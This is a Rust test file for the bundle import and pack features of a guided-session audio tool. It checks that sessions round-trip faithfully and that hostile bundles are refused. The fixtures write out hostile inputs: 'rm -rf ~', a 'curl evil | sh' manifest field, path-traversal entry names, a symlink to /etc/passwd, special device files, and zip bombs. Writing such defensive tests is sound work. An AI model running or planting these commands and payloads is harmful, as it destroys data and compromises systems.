//! Bundles (issue #7): pack → import → the same timeline and the same bytes, and bundles
//! made to do harm, each refused with exit 1, a message naming the problem and the entry,
//! and nothing written anywhere.

mod common;

use std::collections::BTreeMap;
use std::io::{Cursor, Write};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use common::*;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, System, ZipArchive, ZipWriter};

const SCRIPT: &str = "format: still/1\ntitle: Calm\nid: calm\nauthor: Jane Doe, LCSW\nsteps:\n  - bell: bowl\n  - say: Hello, and welcome.\n    clip: clips/tone.ogg\n";

fn tone() -> Vec<u8> {
    std::fs::read(root().join("tests/audio/tone.ogg")).unwrap()
}

fn sha(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn options() -> SimpleFileOptions {
    SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .system(System::Unix)
        .unix_permissions(0o644)
}

/// A manifest for the session `calm` listing `files`.
fn manifest_for(files: &[(&str, &[u8])]) -> Value {
    manifest_with(
        files
            .iter()
            .map(|(p, b)| json!({"path": p, "size": b.len(), "sha256": sha(b)}))
            .collect(),
    )
}

fn manifest_with(files: Vec<Value>) -> Value {
    json!({
        "format": "still-bundle/1",
        "id": "calm",
        "title": "Calm",
        "author": "Jane Doe, LCSW",
        "script": "calm.yaml",
        "files": files,
    })
}

/// An entry of a hand-made bundle.
enum E {
    File(String, Vec<u8>),
    /// A file with these external attributes (Unix mode in the high 16 bits).
    Attrs(String, Vec<u8>, u32),
    Symlink(String, String),
    Dir(String),
    /// An entry copied, still compressed, from another zip.
    Raw(String, &'static [u8]),
}

fn file(name: &str, bytes: impl Into<Vec<u8>>) -> E {
    E::File(name.to_string(), bytes.into())
}

fn manifest_entry(m: &Value) -> E {
    file("manifest.json", serde_json::to_vec_pretty(m).unwrap())
}

fn make_zip(entries: Vec<E>) -> Vec<u8> {
    let mut z = ZipWriter::new(Cursor::new(Vec::new()));
    for e in entries {
        match e {
            E::File(name, bytes) => {
                z.start_file(name, options()).unwrap();
                z.write_all(&bytes).unwrap();
            }
            E::Attrs(name, bytes, attrs) => {
                z.start_file(name, options().external_attributes(attrs))
                    .unwrap();
                z.write_all(&bytes).unwrap();
            }
            E::Symlink(name, target) => z.add_symlink(name, target, options()).unwrap(),
            E::Dir(name) => z.add_directory(name, options()).unwrap(),
            E::Raw(name, zip) => {
                let mut src = ZipArchive::new(Cursor::new(zip)).unwrap();
                z.raw_copy_file_rename(src.by_index_raw(0).unwrap(), name)
                    .unwrap();
            }
        }
    }
    z.finish().unwrap().into_inner()
}

/// The valid bundle: manifest, script and its one clip.
fn valid_entries() -> Vec<E> {
    let tone = tone();
    let m = manifest_for(&[("calm.yaml", SCRIPT.as_bytes()), ("clips/tone.ogg", &tone)]);
    vec![
        manifest_entry(&m),
        file("calm.yaml", SCRIPT),
        file("clips/tone.ogg", tone),
    ]
}

/// Every file and folder under `dir`, with each file's checksum: what "nothing changed" means.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, String> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries {
            let p = e.unwrap().path();
            let meta = std::fs::symlink_metadata(&p).unwrap();
            let rel = p.strip_prefix(dir).unwrap().to_path_buf();
            if meta.is_dir() {
                out.insert(rel, "dir".into());
                stack.push(p);
            } else if meta.is_file() {
                out.insert(rel, sha(&std::fs::read(&p).unwrap()));
            } else {
                out.insert(rel, "other".into());
            }
        }
    }
    out
}

/// A place to work in: `home/` (STILL_HOME, with one session already in its library) and
/// `in/` for the bundle, so that anything written beside or above the library shows.
struct Place {
    dir: tempfile::TempDir,
}

impl Place {
    fn new() -> Place {
        let dir = tempfile::tempdir().unwrap();
        let mine = dir.path().join("home/sessions/evening");
        std::fs::create_dir_all(&mine).unwrap();
        std::fs::write(
            mine.join("evening.yaml"),
            "format: still/1\ntitle: Evening\nsteps:\n  - bell: bowl\n",
        )
        .unwrap();
        std::fs::create_dir_all(dir.path().join("in")).unwrap();
        Place { dir }
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }

    fn put(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.dir.path().join("in").join(name);
        std::fs::write(&path, bytes).unwrap();
        path
    }

    fn import(&self, bundle: &Path, extra: &[&str]) -> Run {
        let mut args = vec!["import", bundle.to_str().unwrap()];
        args.extend_from_slice(extra);
        run_in(&self.home(), &args)
    }
}

/// Imports `bundle`; it must be refused with exit 1, every `expect` in the message, and
/// nothing written anywhere. Returns the message.
fn refused(bundle: &[u8], expect: &[&str]) -> String {
    let place = Place::new();
    let path = place.put("gift.still", bundle);
    refused_in(&place, &path, expect)
}

fn refused_in(place: &Place, path: &Path, expect: &[&str]) -> String {
    let before = snapshot(place.dir.path());
    let r = place.import(path, &[]);
    assert_eq!(r.code, 1, "stdout: {}\nstderr: {}", r.stdout, r.stderr);
    assert!(r.stderr.contains("was not imported"), "{}", r.stderr);
    for e in expect {
        assert!(r.stderr.contains(e), "{e:?} not in:\n{}", r.stderr);
    }
    assert_eq!(
        snapshot(place.dir.path()),
        before,
        "a refused import changed files:\n{}",
        r.stderr
    );
    assert!(!r.stderr.contains("panicked"), "{}", r.stderr);
    r.stderr
}

// ---------------------------------------------------------------------------------------
// The round trip

/// A session that uses every kind of file reference: an ambient clip, a bell clip, say
/// clips of each format, an interval-bell clip, a link inside the folder, a param.
fn therapist_session(dir: &Path) -> PathBuf {
    let clips = dir.join("clips");
    std::fs::create_dir_all(&clips).unwrap();
    for f in [
        "tone.ogg",
        "tone.flac",
        "tone.mp3",
        "click-48k.wav",
        "stereo-22k.wav",
    ] {
        std::fs::copy(root().join("tests/audio").join(f), clips.join(f)).unwrap();
    }
    #[cfg(unix)]
    std::os::unix::fs::symlink("tone.ogg", clips.join("same-tone.ogg")).unwrap();
    #[cfg(not(unix))]
    std::fs::copy(clips.join("tone.ogg"), clips.join("same-tone.ogg")).unwrap();
    // Not used by the script: must stay out of the bundle.
    std::fs::write(clips.join("notes.txt"), "private notes").unwrap();
    let script = dir.join("For Sam.yaml");
    std::fs::write(
        &script,
        "format: still/1\ntitle: For Sam\nauthor: Jane Doe, LCSW\nsummary: Made for one client.\nparams:\n  rounds: { default: 2, min: 1, max: 5 }\nambient: { sound: clips/stereo-22k.wav, volume: -30dB, fade: 1s }\nsteps:\n  - bell: clips/click-48k.wav\n  - say: Welcome, Sam.\n    clip: clips/tone.ogg\n  - say: A line shown as a caption.\n  - repeat: ${rounds}\n    steps:\n      - say: Breathe in.\n        clip: clips/tone.flac\n      - say: And out.\n        clip: ./clips/tone.mp3\n      - say: Again.\n        clip: clips/same-tone.ogg\n  - pause: 3s\n    bells_every: 1s\n    interval_bell: clips/click-48k.wav\n  - bell: bowl\n",
    )
    .unwrap();
    script
}

fn without_source(mut v: Value) -> Value {
    v.as_object_mut().unwrap().remove("source");
    v
}

#[test]
fn a_packed_session_imports_and_plays_the_same() {
    let work = tempfile::tempdir().unwrap();
    let therapist_home = work.path().join("therapist");
    let script = therapist_session(&work.path().join("src"));
    let script = script.to_str().unwrap();
    let bundle = work.path().join("for-sam.still");

    let r = run_in(&therapist_home, &["check", script]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let r = run_in(
        &therapist_home,
        &["pack", script, "-o", bundle.to_str().unwrap()],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.starts_with("packed for-sam (For Sam) into "),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("still import "), "{}", r.stdout);

    // The bundle holds the script, exactly the files it uses, and the manifest.
    let bytes = std::fs::read(&bundle).unwrap();
    let mut zip = ZipArchive::new(Cursor::new(&bytes)).unwrap();
    let mut names: Vec<String> = zip.file_names().map(|n| n.unwrap().to_string()).collect();
    names.sort();
    assert_eq!(
        names,
        [
            "clips/click-48k.wav",
            "clips/same-tone.ogg",
            "clips/stereo-22k.wav",
            "clips/tone.flac",
            "clips/tone.mp3",
            "clips/tone.ogg",
            "for-sam.yaml",
            "manifest.json",
        ]
    );
    let manifest: Value = serde_json::from_reader(zip.by_name("manifest.json").unwrap()).unwrap();
    assert_eq!(manifest["format"], "still-bundle/1");
    assert_eq!(manifest["id"], "for-sam");
    assert_eq!(manifest["title"], "For Sam");
    assert_eq!(manifest["author"], "Jane Doe, LCSW");
    let files = manifest["files"].as_array().unwrap();
    assert_eq!(files.len(), 7);
    for f in files {
        let path = f["path"].as_str().unwrap();
        let mut data = vec![];
        std::io::Read::read_to_end(&mut zip.by_name(path).unwrap(), &mut data).unwrap();
        assert_eq!(f["size"], data.len(), "{path}");
        assert_eq!(f["sha256"], sha(&data), "{path}");
    }

    // The same session packs to the same bytes.
    let again = work.path().join("again.still");
    let r = run_in(
        &therapist_home,
        &["pack", script, "-o", again.to_str().unwrap()],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(
        std::fs::read(&again).unwrap(),
        bytes,
        "packing is deterministic"
    );

    // The client: a fresh home, one command.
    let client = work.path().join("client");
    let r = run_in(&client, &["import", bundle.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.contains("installed for-sam (For Sam)"),
        "{}",
        r.stdout
    );
    assert!(client.join("sessions/for-sam/for-sam.yaml").is_file());
    assert!(client.join("sessions/for-sam/manifest.json").is_file());
    assert!(!client.join("sessions/for-sam/clips/notes.txt").exists());

    // The same timeline…
    for sets in [&[][..], &["--set", "rounds=4"][..]] {
        let mut a = vec!["show", script, "--json"];
        a.extend_from_slice(sets);
        let mut b = vec!["show", "for-sam", "--json"];
        b.extend_from_slice(sets);
        let original: Value = serde_json::from_str(&run_in(&therapist_home, &a).stdout).unwrap();
        let r = run_in(&client, &b);
        assert_eq!(r.code, 0, "{}", r.stderr);
        let imported: Value = serde_json::from_str(&r.stdout).unwrap();
        assert_eq!(original["source"], "file");
        assert_eq!(imported["source"], "library");
        assert_eq!(without_source(original), without_source(imported));
    }

    // …and the same bytes, captions with them.
    let (wav_a, wav_b) = (work.path().join("a.wav"), work.path().join("b.wav"));
    let (vtt_a, vtt_b) = (work.path().join("a.vtt"), work.path().join("b.vtt"));
    let r = run_in(
        &therapist_home,
        &[
            "render",
            script,
            "-o",
            wav_a.to_str().unwrap(),
            "--captions",
            vtt_a.to_str().unwrap(),
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let r = run_in(
        &client,
        &[
            "render",
            "for-sam",
            "-o",
            wav_b.to_str().unwrap(),
            "--captions",
            vtt_b.to_str().unwrap(),
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        std::fs::read(&wav_a).unwrap() == std::fs::read(&wav_b).unwrap(),
        "the imported session renders to the same bytes"
    );
    let vtt = std::fs::read_to_string(&vtt_b).unwrap();
    assert_eq!(std::fs::read_to_string(&vtt_a).unwrap(), vtt);
    assert!(vtt.contains("A line shown as a caption."), "{vtt}");

    // `list` says where it came from and who made it.
    let r = run_in(&client, &["list", "--json"]);
    let list: Value = serde_json::from_str(&r.stdout).unwrap();
    let mine = list
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "for-sam")
        .unwrap();
    assert_eq!(mine["source"], "library");
    assert_eq!(mine["imported"], true);
    assert_eq!(mine["author"], "Jane Doe, LCSW");
    let table = run_in(&client, &["list"]).stdout;
    assert!(
        table.contains("For Sam  (imported, by Jane Doe, LCSW)"),
        "{table}"
    );
    // `show` says the same.
    let shown = run_in(&client, &["show", "for-sam"]).stdout;
    assert!(
        shown.contains("· for-sam · imported, by Jane Doe, LCSW"),
        "{shown}"
    );

    // An unpacked bundle (a folder) imports the same way.
    let unpacked = work.path().join("unpacked");
    zip.extract(&unpacked).unwrap();
    let other = work.path().join("other-client");
    let r = run_in(&other, &["import", unpacked.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(
        snapshot(&other.join("sessions/for-sam")),
        snapshot(&client.join("sessions/for-sam"))
    );

    // And it goes away with one command.
    let r = run_in(&client, &["remove", "for-sam"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.starts_with("removed for-sam: deleted "),
        "{}",
        r.stdout
    );
    assert!(!client.join("sessions/for-sam").exists());
    assert_eq!(snapshot(&client.join("sessions")), BTreeMap::new());
    let r = run_in(&client, &["show", "for-sam"]);
    assert_eq!(r.code, 1);
}

#[test]
fn an_id_already_taken_is_refused_unless_replacing() {
    let place = Place::new();
    let path = place.put("calm.still", &make_zip(valid_entries()));
    let r = place.import(&path, &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.starts_with("installed calm (Calm)"),
        "{}",
        r.stdout
    );

    let err = refused_in(
        &place,
        &path,
        &["the session 'calm' is already installed", "--replace"],
    );
    assert!(err.contains("sessions/calm"), "{err}");

    // --replace swaps the folder whole: a file only the old copy had is gone.
    std::fs::write(place.home().join("sessions/calm/old.txt"), "old").unwrap();
    let r = place.import(&path, &["--replace"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.starts_with("replaced calm (Calm)"), "{}", r.stdout);
    assert!(!place.home().join("sessions/calm/old.txt").exists());
    let names: Vec<String> = std::fs::read_dir(place.home().join("sessions"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.len(), 2, "nothing left aside: {names:?}");

    // A script put in the library by hand, or a built-in, is never replaced.
    let bare = Place::new();
    std::fs::write(
        bare.home().join("sessions/mine.yaml"),
        "format: still/1\ntitle: Mine\nid: calm\nsteps:\n  - bell: bowl\n",
    )
    .unwrap();
    let path = bare.put("calm.still", &make_zip(valid_entries()));
    let before = snapshot(bare.dir.path());
    let r = bare.import(&path, &["--replace"]);
    assert_eq!(r.code, 1);
    assert!(
        r.stderr.contains("mine.yaml, which still did not install"),
        "{}",
        r.stderr
    );
    assert_eq!(snapshot(bare.dir.path()), before);

    let script = SCRIPT.replace("id: calm", "id: box-breathing");
    let tone = tone();
    let mut m = manifest_for(&[
        ("box-breathing.yaml", script.as_bytes()),
        ("clips/tone.ogg", &tone),
    ]);
    m["id"] = json!("box-breathing");
    m["script"] = json!("box-breathing.yaml");
    refused(
        &make_zip(vec![
            manifest_entry(&m),
            file("box-breathing.yaml", script),
            file("clips/tone.ogg", tone),
        ]),
        &["'box-breathing' is the id of a built-in session"],
    );
}

#[test]
fn removing_names_what_it_removed_and_refuses_built_ins() {
    let place = Place::new();
    let r = run_in(&place.home(), &["remove", "box-breathing"]);
    assert_eq!(r.code, 1);
    assert!(
        r.stderr.contains("'box-breathing' is a built-in session"),
        "{}",
        r.stderr
    );
    let r = run_in(&place.home(), &["remove", "evenin"]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("did you mean 'evening'?"), "{}", r.stderr);
    std::fs::write(
        place.home().join("sessions/loose.yaml"),
        "format: still/1\ntitle: Loose\nsteps:\n  - bell: bowl\n",
    )
    .unwrap();
    let r = run_in(&place.home(), &["remove", "loose"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("loose.yaml"), "{}", r.stdout);
    assert!(!place.home().join("sessions/loose.yaml").exists());
    assert!(place.home().join("sessions/evening").exists());
    // A folder shared by two sessions keeps the other one.
    std::fs::write(
        place.home().join("sessions/evening/late.yaml"),
        "format: still/1\ntitle: Late\nsteps:\n  - bell: bowl\n",
    )
    .unwrap();
    let r = run_in(&place.home(), &["remove", "late"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(!place.home().join("sessions/evening/late.yaml").exists());
    assert!(place.home().join("sessions/evening/evening.yaml").exists());
    let r = run_in(&place.home(), &["remove", "evening"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(!place.home().join("sessions/evening").exists());
}

// ---------------------------------------------------------------------------------------
// Hostile bundles

#[test]
fn a_checksum_that_does_not_match_is_refused() {
    let tone = tone();
    let mut changed = tone.clone();
    changed[100] ^= 1;
    let m = manifest_for(&[("calm.yaml", SCRIPT.as_bytes()), ("clips/tone.ogg", &tone)]);
    refused(
        &make_zip(vec![
            manifest_entry(&m),
            file("calm.yaml", SCRIPT),
            file("clips/tone.ogg", changed),
        ]),
        &[
            "entry 'clips/tone.ogg' does not match its checksum in manifest.json",
            "hint: the bundle may be damaged, or made to do harm; nothing was installed",
        ],
    );
}

#[test]
fn a_refused_import_into_a_fresh_home_leaves_no_library_behind() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let mut entries = valid_entries();
    entries.push(file("extra.sh", "rm -rf ~"));
    let bundle = dir.path().join("gift.still");
    std::fs::write(&bundle, make_zip(entries)).unwrap();
    let r = run_in(&home, &["import", bundle.to_str().unwrap()]);
    assert_eq!(r.code, 1);
    assert!(!home.join("sessions").exists());
    // A script that fails check is refused after staging: the staging goes too.
    let script = SCRIPT.replace("bell: bowl", "bel: bowl");
    let tone = tone();
    let m = manifest_for(&[("calm.yaml", script.as_bytes()), ("clips/tone.ogg", &tone)]);
    std::fs::write(
        &bundle,
        make_zip(vec![
            manifest_entry(&m),
            file("calm.yaml", script),
            file("clips/tone.ogg", tone),
        ]),
    )
    .unwrap();
    let r = run_in(&home, &["import", bundle.to_str().unwrap()]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("unknown step 'bel'"), "{}", r.stderr);
    assert!(!home.exists(), "{:?}", snapshot(&home));
}

#[test]
fn a_file_not_in_the_manifest_is_refused() {
    let mut entries = valid_entries();
    entries.push(file("clips/extra.sh", "#!/bin/sh\nrm -rf ~\n"));
    refused(
        &make_zip(entries),
        &["entry 'clips/extra.sh' is not listed in manifest.json"],
    );
    // A folder entry that holds no listed file is one too.
    let mut entries = valid_entries();
    entries.push(E::Dir("empty/".into()));
    refused(
        &make_zip(entries),
        &["entry 'empty' is not listed in manifest.json"],
    );
}

#[test]
fn a_listed_file_the_bundle_lacks_or_the_script_does_not_use_is_refused() {
    let mut entries = valid_entries();
    entries.pop();
    refused(
        &make_zip(entries),
        &["manifest.json lists 'clips/tone.ogg', which the bundle does not hold"],
    );
    let tone = tone();
    let m = manifest_for(&[
        ("calm.yaml", SCRIPT.as_bytes()),
        ("clips/tone.ogg", &tone),
        ("clips/unused.ogg", &tone),
    ]);
    refused(
        &make_zip(vec![
            manifest_entry(&m),
            file("calm.yaml", SCRIPT),
            file("clips/tone.ogg", tone.clone()),
            file("clips/unused.ogg", tone),
        ]),
        &["entry 'clips/unused.ogg' is not used by the script"],
    );
}

#[test]
fn a_missing_or_wrong_manifest_is_refused() {
    let mut entries = valid_entries();
    entries.remove(0);
    refused(&make_zip(entries), &["it has no manifest.json"]);

    let mut m = manifest_for(&[("calm.yaml", SCRIPT.as_bytes())]);
    m["format"] = json!("still-bundle/9");
    refused(
        &make_zip(vec![manifest_entry(&m), file("calm.yaml", SCRIPT)]),
        &["manifest.json is for format 'still-bundle/9'"],
    );

    let mut m = manifest_for(&[("calm.yaml", SCRIPT.as_bytes())]);
    m["run"] = json!("curl evil | sh");
    refused(
        &make_zip(vec![manifest_entry(&m), file("calm.yaml", SCRIPT)]),
        &["manifest.json is not valid", "unknown field `run`"],
    );

    // The manifest says one id, the script another.
    let tone = tone();
    let script = SCRIPT.replace("id: calm", "id: other");
    let m = manifest_for(&[("calm.yaml", script.as_bytes()), ("clips/tone.ogg", &tone)]);
    refused(
        &make_zip(vec![
            manifest_entry(&m),
            file("calm.yaml", script),
            file("clips/tone.ogg", tone),
        ]),
        &["manifest.json names the session 'calm', but its script names it 'other'"],
    );

    refused(
        b"PK\x03\x04 not really a zip",
        &["it is not a still bundle"],
    );
}

#[test]
fn a_wrong_size_in_the_manifest_is_refused() {
    let tone = tone();
    let mut m = manifest_for(&[("calm.yaml", SCRIPT.as_bytes()), ("clips/tone.ogg", &tone)]);
    m["files"][1]["size"] = json!(tone.len() + 1);
    refused(
        &make_zip(vec![
            manifest_entry(&m),
            file("calm.yaml", SCRIPT),
            file("clips/tone.ogg", tone.clone()),
        ]),
        &[&format!(
            "entry 'clips/tone.ogg' is {} bytes, but manifest.json gives {}",
            tone.len(),
            tone.len() + 1
        )],
    );
}

#[test]
fn names_that_lead_out_of_the_library_are_refused() {
    for (name, why) in [
        ("../evil", "'..'"),
        ("../../evil", "'..'"),
        ("../../../evil", "'..'"),
        ("clips/../../evil", "'..'"),
        ("/etc/x", "absolute"),
        ("/tmp/evil", "absolute"),
        ("C:/evil.wav", "drive letter"),
        ("clips\\..\\..\\evil", "'\\'"),
    ] {
        let mut entries = valid_entries();
        entries.push(file(name, "pwned"));
        let err = refused(&make_zip(entries), &[&format!("entry '{name}'"), why]);
        assert!(!Path::new("/tmp/evil").exists(), "{err}");
    }
    // Listed in the manifest too, so that nothing but the name is wrong.
    let tone = tone();
    let m = manifest_for(&[
        ("calm.yaml", SCRIPT.as_bytes()),
        ("clips/tone.ogg", &tone),
        ("../evil", b"pwned"),
    ]);
    refused(
        &make_zip(vec![
            manifest_entry(&m),
            file("calm.yaml", SCRIPT),
            file("clips/tone.ogg", tone),
            file("../evil", "pwned"),
        ]),
        &["entry '../evil'", "'..'"],
    );
}

#[test]
fn names_that_clash_on_macos_and_windows_are_refused() {
    let mut entries = valid_entries();
    entries.push(file("clips/TONE.ogg", tone()));
    refused(
        &make_zip(entries),
        &["entries 'clips/tone.ogg' and 'clips/TONE.ogg' would be the same file"],
    );
}

#[test]
fn links_and_special_files_are_refused() {
    let mut entries = valid_entries();
    entries.push(E::Symlink("clips/link.ogg".into(), "/etc/passwd".into()));
    refused(
        &make_zip(entries),
        &["entry 'clips/link.ogg' is a symbolic link"],
    );
    for (mode, kind) in [
        (0o010_644, "FIFO"),
        (0o020_644, "character device"),
        (0o060_644, "block device"),
        (0o140_644, "socket"),
    ] {
        let mut entries = valid_entries();
        entries.push(E::Attrs("clips/odd".into(), vec![], mode << 16));
        refused(
            &make_zip(entries),
            &[&format!(
                "entry 'clips/odd' is a {kind}, not a file or a folder"
            )],
        );
    }
}

#[cfg(unix)]
#[test]
fn an_unpacked_bundle_with_a_link_is_refused() {
    let place = Place::new();
    let dir = place.dir.path().join("in/unpacked");
    std::fs::create_dir_all(dir.join("clips")).unwrap();
    let tone = tone();
    let m = manifest_for(&[("calm.yaml", SCRIPT.as_bytes()), ("clips/tone.ogg", &tone)]);
    std::fs::write(dir.join("manifest.json"), serde_json::to_vec(&m).unwrap()).unwrap();
    std::fs::write(dir.join("calm.yaml"), SCRIPT).unwrap();
    let secret = place.dir.path().join("secret.txt");
    std::fs::write(&secret, "private").unwrap();
    std::os::unix::fs::symlink(&secret, dir.join("clips/tone.ogg")).unwrap();
    refused_in(&place, &dir, &["entry 'clips/tone.ogg' is a symbolic link"]);
    // A FIFO, which would block a naive reader forever.
    std::fs::remove_file(dir.join("clips/tone.ogg")).unwrap();
    let fifo = std::ffi::CString::new(dir.join("clips/tone.ogg").to_str().unwrap()).unwrap();
    // SAFETY: mkfifo with a valid C string; the path is in the test's own folder.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
    refused_in(
        &place,
        &dir,
        &["entry 'clips/tone.ogg' is a FIFO, not a file or a folder"],
    );
}

#[test]
fn more_than_a_thousand_entries_are_refused() {
    let mut entries = valid_entries();
    for i in 0..998 {
        entries.push(file(&format!("clips/{i}.txt"), "x"));
    }
    // 1 001 entries: the manifest, the script, the clip and 998 more.
    refused(
        &make_zip(entries),
        &["it has 1001 entries, over the limit of 1000"],
    );
    // 1 000 pass the count (and fail on something else).
    let mut entries = valid_entries();
    for i in 0..997 {
        entries.push(file(&format!("clips/{i}.txt"), "x"));
    }
    let err = refused(&make_zip(entries), &["is not listed in manifest.json"]);
    assert!(!err.contains("over the limit"), "{err}");
}

/// A one-entry zip holding `len` zeros, deflated as it is written (about a thousandth of
/// the size); built once per size and copied raw into the bundles that need it.
fn zeros(len: u64) -> &'static [u8] {
    static CACHE: OnceLock<std::sync::Mutex<BTreeMap<u64, &'static [u8]>>> = OnceLock::new();
    let cache = CACHE.get_or_init(Default::default);
    let mut cache = cache.lock().unwrap();
    cache.entry(len).or_insert_with(|| {
        let mut z = ZipWriter::new(Cursor::new(Vec::new()));
        z.start_file("zeros", options().compression_level(Some(9)))
            .unwrap();
        let chunk = vec![0u8; 1 << 20];
        let mut left = len;
        while left > 0 {
            let n = left.min(chunk.len() as u64) as usize;
            z.write_all(&chunk[..n]).unwrap();
            left -= n as u64;
        }
        Box::leak(z.finish().unwrap().into_inner().into_boxed_slice())
    })
}

/// A bundle with a bomb: `calm.yaml` plus `clips/bomb.wav`, 250 MB of zeros, listed in the
/// manifest with `claimed` bytes.
fn bomb(claimed: u64) -> Vec<u8> {
    let files = vec![
        json!({"path": "calm.yaml", "size": SCRIPT.len(), "sha256": sha(SCRIPT.as_bytes())}),
        json!({"path": "clips/bomb.wav", "size": claimed, "sha256": "0".repeat(64)}),
    ];
    make_zip(vec![
        manifest_entry(&manifest_with(files)),
        file("calm.yaml", SCRIPT),
        E::Raw("clips/bomb.wav".into(), zeros(250_000_000)),
    ])
}

#[test]
fn a_zip_bomb_is_refused_quickly() {
    let started = Instant::now();
    let b = bomb(250_000_000);
    assert!(b.len() < 1_000_000, "the bomb is small: {} bytes", b.len());
    eprintln!("built the bomb in {:?}", started.elapsed());

    // An honest manifest: refused before anything is inflated.
    let t = Instant::now();
    refused(
        &b,
        &["entry 'clips/bomb.wav' is 238.4 MiB, over the limit of 200.0 MiB for one file"],
    );
    eprintln!("honest bomb refused in {:?}", t.elapsed());

    // A manifest that lies: inflating stops one byte past what it promised.
    let t = Instant::now();
    refused(
        &bomb(1000),
        &["entry 'clips/bomb.wav' inflates to more than the 1000 bytes manifest.json gives"],
    );
    assert!(t.elapsed() < Duration::from_secs(10));

    // A manifest that promises the most one file may be: counted to 200 MiB, then refused.
    let t = Instant::now();
    refused(
        &bomb(200 * 1024 * 1024),
        &[
            "entry 'clips/bomb.wav' inflates past 200.0 MiB, the limit for one file (counted while inflating)",
        ],
    );
    let took = t.elapsed();
    eprintln!("bomb counted to 200 MiB and refused in {took:?}");
    assert!(took < Duration::from_secs(30), "{took:?}");
}

#[test]
fn a_bundle_past_a_gigabyte_in_all_is_refused() {
    let started = Instant::now();
    let each: u64 = 180_000_000;
    let mut files =
        vec![json!({"path": "calm.yaml", "size": SCRIPT.len(), "sha256": sha(SCRIPT.as_bytes())})];
    let mut entries = vec![file("calm.yaml", SCRIPT)];
    for i in 0..6 {
        let name = format!("clips/part{i}.wav");
        files.push(json!({"path": name, "size": each, "sha256": "0".repeat(64)}));
        entries.push(E::Raw(name, zeros(each)));
    }
    entries.insert(0, manifest_entry(&manifest_with(files)));
    let b = make_zip(entries);
    assert!(b.len() < 2_000_000, "{}", b.len());
    refused(
        &b,
        &["its files add up to 1030.0 MiB, over the limit of 1024.0 MiB for a bundle"],
    );
    assert!(started.elapsed() < Duration::from_secs(30));
}

#[test]
fn a_script_that_fails_check_is_refused() {
    let script = SCRIPT.replace("bell: bowl", "bel: bowl");
    let tone = tone();
    let m = manifest_for(&[("calm.yaml", script.as_bytes()), ("clips/tone.ogg", &tone)]);
    let err = refused(
        &make_zip(vec![
            manifest_entry(&m),
            file("calm.yaml", script),
            file("clips/tone.ogg", tone),
        ]),
        &[
            "gift.still/calm.yaml:6:5: unknown step 'bel'",
            "its script does not pass `still check` (1 problem, above)",
        ],
    );
    assert!(
        !err.contains(".import-"),
        "no staging path in messages: {err}"
    );

    // A clip that is not audio fails check too, when it is decoded.
    let m = manifest_for(&[
        ("calm.yaml", SCRIPT.as_bytes()),
        ("clips/tone.ogg", b"#!/bin/sh\necho not audio\n"),
    ]);
    refused(
        &make_zip(vec![
            manifest_entry(&m),
            file("calm.yaml", SCRIPT),
            file("clips/tone.ogg", "#!/bin/sh\necho not audio\n"),
        ]),
        &["clips/tone.ogg", "does not pass `still check`"],
    );
}

#[test]
fn pack_refuses_a_script_that_fails_check_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("broken.still");
    for broken in ["unknown-step.yaml", "broken-clips.yaml"] {
        let script = root().join("tests/scripts/broken").join(broken);
        let r = run_in(
            dir.path(),
            &[
                "pack",
                script.to_str().unwrap(),
                "-o",
                out.to_str().unwrap(),
            ],
        );
        assert_eq!(r.code, 1, "{broken}: {}", r.stdout);
        assert!(r.stderr.contains(broken), "{}", r.stderr);
        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);
    }
}
